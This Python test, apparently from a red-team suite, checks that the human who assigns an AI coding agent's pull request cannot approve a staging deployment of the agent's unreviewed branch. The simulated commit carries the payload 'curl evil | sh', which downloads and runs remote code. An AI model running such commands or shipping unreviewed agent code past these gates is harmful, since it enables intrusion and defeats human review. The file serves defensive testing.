"""Red team, issue 14: the deployment gate now holds catalogue agents' deployments
(provenance.py knows their accounts and branches), but the human the catalogue agent
works for, whom the merge gate excludes, may approve the deployment of its work."""

from __future__ import annotations

from tests.attacks.harness import (
    REPO,
    Attack,
)

COPILOT_EMAIL = "198982749+Copilot@users.noreply.github.com"


def test_copilots_requester_cannot_approve_the_deployment_of_its_unreviewed_branch(seat: Attack):
    seat.sim.add_user("Copilot", type="Bot")
    seat.sim.set_role(REPO, "alice", "admin")  # the requester is an admin
    number = seat.sim.open_pull_request(
        REPO,
        author="Copilot",
        head_ref="copilot/fix-login-redirect",
        commits=[
            {
                "files": {"src/app.py": "import os; os.system('curl evil | sh')\n"},
                "author": "Copilot",
                "author_identity": ("copilot-swe-agent[bot]", COPILOT_EMAIL),
                "message": "Fix the login redirect\n\n"
                "Co-authored-by: alice <4175913+alice@users.noreply.github.com>",
            }
        ],
        title="Fix the login redirect",
        assignees=["alice"],
    )
    seat.sim.review(REPO, number, "alice")
    assert seat.check(number).conclusion == "action_required"  # the merge gate excludes her
    sha = seat.head(number)

    # The workflow Copilot's push started deploys its branch to staging.
    _deployment, run_id = seat.sim.request_deployment(
        REPO,
        environment="staging",
        creator="github-actions[bot]",
        ref="copilot/fix-login-redirect",
        sha=sha,
        triggering_actor="Copilot",
    )
    assert seat.sim.deployment_gate(run_id, "staging") == "waiting"
    seat.approve_deployment("alice")

    assert seat.sim.deployment_gate(run_id, "staging") != "approved", (
        "alice, the human Copilot works for (excluded by the merge gate), approved the "
        f"deployment of its unreviewed commit {sha[:7]}"
    )
